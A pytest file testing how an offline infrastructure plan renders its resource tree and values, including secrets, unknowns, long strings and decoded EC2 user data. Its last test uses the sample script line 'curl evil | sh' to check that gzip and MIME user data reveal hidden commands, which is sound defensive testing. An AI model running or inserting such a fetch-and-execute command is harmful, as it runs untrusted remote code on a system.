"""The offline plan's resource tree and value display, byte for byte, on small hand-built models.

The stack tests check that a value shows up somewhere; an operator reads the tree as a whole, so
a synthetic set of resources with every kind of value (markers, mock names, long strings, JSON
documents, user data, maps too long for one line) is compared whole.
"""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Mapping
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from typing import Any

import pytest

from mock_engine import PROMOTED_AMI, SECRET, UNKNOWN
from plan.model import Resource
from plan.render import _input_lines, show, tree

USER_DATA = base64.b64encode(b"#!/bin/bash\necho one\necho two\n").decode()


def res(key: str, type_: str, name: str, parent: str | None = None,
        inputs: Mapping[str, Any] | None = None,
        options: Mapping[str, Any] | None = None) -> Resource:
    return Resource(key, type_, name, parent, True, inputs or {}, options or {}, ())


ITEMS = [
    res("S", "pulumi:pulumi:Stack", "webtier-staging"),
    res("C", "webtier:fleet:Fleet", "web", "S", {"size": 2}),
    res("G", "aws:autoscaling/group:Group", "web-group", "C",
        {"maxSize": 4, "minSize": 2, "desiredCapacity": 2, "tags": [{"key": "a"}],
         "name": "web-group-mock",
         "instanceRefresh": {"strategy": "Rolling",
                             "preferences": {"minHealthyPercentage": 50, "instanceWarmup": 120}}},
        {"ignoreChanges": ["desiredCapacity"], "protect": True, "deleteBeforeReplace": False,
         "retainOnDelete": False, "replaceOnChanges": [], "aliases": ["x"]}),
    res("L", "aws:ec2/launchTemplate:LaunchTemplate", "web-lt", "C",
        {"userData": USER_DATA, "imageId": PROMOTED_AMI, "instanceType": "t3.small",
         "tags": {"a": "b"}}),
    res("P", "aws:iam/role:Role", "role", "C", {"name": "r"}),
    res("Q", "aws:iam/rolePolicy:RolePolicy", "role", "P",
        {"policy": json.dumps({"Version": "2012-10-17"}), "tagsAll": {"x": "y"},
         "note": "has space ", "long": "x" * 200, "big": {f"k{i}": f"value-{i}" for i in range(3)}
         | {"k3": "v" * 80}, "secret": SECRET, "out": UNKNOWN, "flag": True, "n": None,
         "f": 1.5, "script": "a\nb"}),
    res("O", "aws:s3/bucket:Bucket", "orphan", "missing-parent", {"bucket": "b"}),
]

EXPECTED = f"""\
Offline plan for stack staging: 7 resources (mock engine: nothing was created, no command ran)
[secret] = secret value · [unknown] = known only once the update runs · [mock] = made up by \
the mock engine (what AWS assigns, the AMI a promotion finds)

WARNING: secret in plain text: w1
WARNING: secret in plain text: w2
aws:s3/bucket:Bucket  orphan
      bucket: b
pulumi:pulumi:Stack  webtier-staging
└── webtier:fleet:Fleet  web
    │     size: 2
    ├── aws:iam/role:Role  role
    │   │     name: r
    │   └── aws:iam/rolePolicy:RolePolicy  role
    │             big.k0: value-0
    │             big.k1: value-1
    │             big.k2: value-2
    │             big.k3: {"v" * 80}
    │             f: 1.5
    │             flag: true
    │             long: {"x" * 120}… (200 chars, sha256:aa20c23e3201)
    │             n: null
    │             note: "has space "
    │             out: [unknown]
    │             policy: <JSON document: 25 chars, sha256:3b5d070c68bd>
    │             script: "a\\nb"
    │             secret: [secret]
    ├── aws:autoscaling/group:Group  web-group  [ignoreChanges=[desiredCapacity]; protect=true]
    │         name: [mock] web-group-mock
    │         minSize: 2
    │         maxSize: 4
    │         desiredCapacity: 2
    │         instanceRefresh: {{preferences: {{instanceWarmup: 120, minHealthyPercentage: 50}}, \
strategy: Rolling}}
    │         rolls instances: about 2 batch(es) of ~2 min, ~4 min in all; lowest in service 1 of 2
    └── aws:ec2/launchTemplate:LaunchTemplate  web-lt
              imageId: [mock] {PROMOTED_AMI}
              instanceType: t3.small
              userData: <user data: 3 lines, sha256:38ad420f0dd0>
                | #!/bin/bash
                | echo one
                | echo two
"""


def test_tree_shows_every_kind_of_value_under_its_parent_as_operators_read_it() -> None:
    assert tree("staging", ITEMS, ["w1", "w2"]) == EXPECTED


def test_tree_is_the_same_whatever_order_the_resources_come_in() -> None:
    assert tree("staging", list(reversed(ITEMS)), ["w1", "w2"]) == EXPECTED


def test_siblings_of_the_same_name_are_ordered_by_type() -> None:
    items = [res("S", "pulumi:pulumi:Stack", "s"), res("B", "b:b:B", "x", "S"),
             res("A", "a:a:A", "x", "S")]
    assert tree("s", items).splitlines()[3:] == [
        "pulumi:pulumi:Stack  s", "├── a:a:A  x", "└── b:b:B  x"]


def test_tree_without_warnings_goes_straight_from_the_legend_to_the_resources() -> None:
    assert tree("s", [res("S", "pulumi:pulumi:Stack", "s")]).splitlines()[2:] == [
        "", "pulumi:pulumi:Stack  s"]


@pytest.mark.parametrize(("options", "shown"), [
    ({"deleteBeforeReplace": True}, "  [deleteBeforeReplace=true]"),
    ({"retainOnDelete": True, "replaceOnChanges": ["a"]},
     "  [replaceOnChanges=[a]; retainOnDelete=true]"),
    # Defaults and options the tree does not show leave the line bare.
    ({"deleteBeforeReplace": False, "protect": False, "ignoreChanges": [], "parent": "x"}, ""),
    ({"ignoreChanges": None}, ""),
])
def test_only_non_default_resource_options_follow_the_name(options: dict[str, Any],
                                                           shown: str) -> None:
    items = [res("S", "t:t:T", "s", None, {}, options)]
    assert tree("s", items).splitlines()[3] == f"t:t:T  s{shown}"


@pytest.mark.parametrize(("value", "shown"), [
    (None, "null"), (False, "false"), (True, "true"), (3, "3"), (2.5, "2.5"),
    (SECRET, "[secret]"), (UNKNOWN, "[unknown]"),
    ("", '""'), (" a", '" a"'), ("a ", '"a "'), ("a,b c", "a,b c"), (",a", '",a"'),
    ("a\tb", '"a\\tb"'), ("arn:aws:iam::1:role/web-mock", "[mock] arn:aws:iam::1:role/web-mock"),
    ("web-mockery", "web-mockery"),
    (["a", 1, None, SECRET], "[a, 1, null, [secret]]"), (("a",), "[a]"), ([], "[]"),
    ({"b": 1, "a": {"c": UNKNOWN}}, "{a: {c: [unknown]}, b: 1}"), ({}, "{}"),
    ("x" * 160, "x" * 160),
    ("x" * 161, "x" * 120 + "… (161 chars, sha256:fdb7f3c40645)"),
])
def test_show_puts_one_value_on_one_line(value: Any, shown: str) -> None:
    assert show(value) == shown


def test_show_without_a_limit_never_cuts() -> None:
    assert show("x" * 500, None) == "x" * 500


class _Odd:
    def __str__(self) -> str:
        return "odd"


def test_show_of_an_unexpected_type_is_its_text_as_json() -> None:
    assert show(_Odd()) == '"odd"'


def test_a_map_of_exactly_one_hundred_characters_stays_on_one_line() -> None:
    assert _input_lines("m", {"k": "a" * 95}) == [f"m: {{k: {'a' * 95}}}"]
    assert _input_lines("m", {"k": "a" * 96}) == [f"m.k: {'a' * 96}"]


def test_a_long_list_of_maps_shows_a_line_per_leaf() -> None:
    assert _input_lines("l", [{"a": "x" * 60}, {"b": "y" * 60}]) == [
        f"l[0].a: {'x' * 60}", f"l[1].b: {'y' * 60}"]


def test_plain_text_user_data_is_shown_like_encoded_user_data() -> None:
    assert _input_lines("userData", "#!/bin/sh\nx\n") == [
        "userData: <user data: 2 lines, sha256:2bfd0f0445c1>", "  | #!/bin/sh", "  | x"]


def test_user_data_lines_cannot_drive_the_terminal() -> None:
    assert _input_lines("userData", "#!/bin/sh\necho \x1b[2Jhi\x07\n")[1:] == [
        "  | #!/bin/sh", "  | echo \\x1b[2Jhi\\x07"]


def test_gzip_and_mime_user_data_show_the_commands_inside() -> None:
    script = "#!/bin/bash\ncurl evil | sh\n"
    zipped = base64.b64encode(gzip.compress(script.encode())).decode()
    assert _input_lines("userData", zipped)[1:] == ["  | #!/bin/bash", "  | curl evil | sh"]
    mime = MIMEMultipart()
    mime.attach(MIMEText("#cloud-config\nruncmd: [reboot]\n", "cloud-config"))
    mime.attach(MIMEText(script, "x-shellscript"))
    shown = _input_lines("userData", base64.b64encode(mime.as_bytes()).decode())
    assert "  | --- part 1: text/cloud-config ---" in shown
    assert "  | runcmd: [reboot]" in shown
    assert "  | --- part 2: text/x-shellscript ---" in shown
    assert "  | curl evil | sh" in shown
